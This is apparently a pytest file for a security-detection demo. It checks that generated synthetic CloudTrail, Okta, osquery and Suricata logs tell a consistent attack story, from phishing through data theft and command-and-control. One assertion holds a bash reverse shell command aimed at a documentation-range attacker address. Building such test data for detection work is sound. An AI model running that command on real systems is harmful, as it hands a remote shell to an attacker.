"""The attack story: the same for the same seed, attacker in all four sources, bodies as the services write them."""

from __future__ import annotations

from datetime import datetime, timedelta

import pytest

from panther_dagster.demo.story import Story, tell_story

NOW = datetime(2024, 5, 1, 12, 10)


@pytest.fixture(scope="module")
def story() -> Story:
    return tell_story(seed=7, now_utc=NOW, events=1_000)


def test_same_seed_and_time_tell_the_same_story(story: Story) -> None:
    assert tell_story(seed=7, now_utc=NOW, events=1_000) == story


def test_another_seed_tells_another_story_with_the_same_attack(story: Story) -> None:
    other = tell_story(seed=8, now_utc=NOW, events=1_000)

    assert other.events != story.events
    assert [step.name for step in other.truth.steps] == [step.name for step in story.truth.steps]


def test_attacker_address_is_in_all_four_sources(story: Story) -> None:
    assert story.truth.attacker_events_by_log_type == {
        "AWS.CloudTrail": 156,  # sign-in, three lists, key, trail, 150 objects
        "Okta.SystemLog": 5,
        "Osquery.Differential": 2,
        "Suricata.Alert": 1,
        "Suricata.DNS": 8,  # answers
        "Suricata.FileInfo": 1,
        "Suricata.Flow": 1,
        "Suricata.HTTP": 1,
        "Suricata.TLS": 1,
    }


def test_truth_counts_ordinary_and_attack_events(story: Story) -> None:
    assert len(story.events) == 1_000 + sum(step.events for step in story.truth.steps) == 1_184
    assert sum(story.truth.events_by_log_type.values()) == 1_184
    assert set(story.truth.events_by_log_type) == {
        "AWS.CloudTrail",
        "Okta.SystemLog",
        "Osquery.Batch",
        "Osquery.Differential",
        "Osquery.Snapshot",
        "Osquery.Status",
        "Suricata.Alert",
        "Suricata.Anomaly",
        "Suricata.DHCP",
        "Suricata.DNS",
        "Suricata.Event",
        "Suricata.FileInfo",
        "Suricata.Flow",
        "Suricata.HTTP",
        "Suricata.SSH",
        "Suricata.TLS",
    }


def test_events_are_in_order_and_within_the_last_two_hours(story: Story) -> None:
    times = [event.time_utc for event in story.events]

    assert times == sorted(times)
    assert NOW - timedelta(hours=2) <= times[0]
    assert times[-1] <= NOW


def test_steps_follow_each_other(story: Story) -> None:
    assert [step.name for step in story.truth.steps] == [
        "phished session",
        "factors reset",
        "administrator",
        "console login",
        "new access key",
        "logging stopped",
        "bucket emptied",
        "download",
        "reverse shell",
        "command and control",
        "beacons",
    ]
    assert [step.time_utc for step in story.truth.steps] == sorted(step.time_utc for step in story.truth.steps)


def test_reverse_shell_looks_like_osquery_wrote_it(story: Story) -> None:
    (event,) = [event for event in story.events if event.log_type == "Osquery.Differential" and "/dev/tcp/" in str(event.body)]

    assert event.body["name"] == "pack_incident-response_process_events"
    assert event.body["hostIdentifier"] == "build-02.corp.example.com"
    assert event.body["calendarTime"] == "Wed May  1 11:12:04 2024 UTC"
    assert event.body["unixTime"] == 1714561924
    assert event.body["columns"]["cmdline"] == "bash -i >& /dev/tcp/203.0.113.66/443 0>&1"
    assert all(isinstance(value, str) for value in event.body["columns"].values())


def test_console_login_without_mfa_looks_like_cloudtrail_wrote_it(story: Story) -> None:
    (body,) = [e.body for e in story.events if e.body.get("eventName") == "ConsoleLogin" and e.body["sourceIPAddress"] == "203.0.113.66"]

    assert body["eventSource"] == "signin.amazonaws.com"
    assert body["eventType"] == "AwsConsoleSignIn"
    assert body["userIdentity"]["arn"] == "arn:aws:iam::123456789012:user/maria.santos"
    assert body["additionalEventData"]["MFAUsed"] == "No"
    assert body["eventTime"] == "2024-05-01T10:33:00Z"


def test_objects_are_read_with_the_key_that_was_made(story: Story) -> None:
    (created,) = [event.body for event in story.events if event.body.get("eventName") == "CreateAccessKey"]
    key_id = created["responseElements"]["accessKey"]["accessKeyId"]

    reads = [event.body for event in story.events if event.body.get("userIdentity", {}).get("accessKeyId") == key_id]

    assert len(reads) == 150
    assert {read["requestParameters"]["bucketName"] for read in reads} == {"example-customer-exports"}
    assert {read["eventCategory"] for read in reads} == {"Data"}
    assert len({read["requestParameters"]["key"] for read in reads}) == 150


def test_dns_answer_names_the_attackers_domain_and_address(story: Story) -> None:
    answers = [e.body["dns"] for e in story.events if e.body.get("event_type") == "dns" and e.body["dns"]["type"] == "answer"]
    of_attacker = [answer for answer in answers if answer["rrname"] == "updates.cdn-telemetry.example.net"]

    assert len(of_attacker) == 8
    assert {row["rdata"] for answer in of_attacker for row in answer["answers"]} == {"203.0.113.66"}


def test_community_id_is_the_same_in_both_directions() -> None:
    from panther_dagster.demo.suricata import Connection

    there = Connection(1, "192.0.2.10", 34855, "198.51.100.20", 80)
    back = Connection(1, "198.51.100.20", 80, "192.0.2.10", 34855)

    # printf '\x00\x00\xc0\x00\x02\x0a\xc6\x33\x64\x14\x06\x00\x88\x27\x00\x50' | openssl dgst -sha1 -binary | base64
    assert there.community_id == back.community_id == "1:65HsiAc8b2P4eR8OrvUxcSvo6GY="


def test_addresses_are_private_or_reserved_for_documentation(story: Story) -> None:
    import ipaddress
    import re

    allowed = [ipaddress.ip_network(net) for net in ("10.0.0.0/8", "192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24", "0.0.0.0/32")]
    addresses = set()
    for event in story.events:
        fields = str({name: value for name, value in event.body.items() if name not in ("userAgent", "client", "version")})
        addresses |= set(re.findall(r"'(\d+\.\d+\.\d+\.\d+)'", fields))

    assert "203.0.113.66" in addresses
    assert not [text for text in addresses if not any(ipaddress.ip_address(text) in net for net in allowed)]
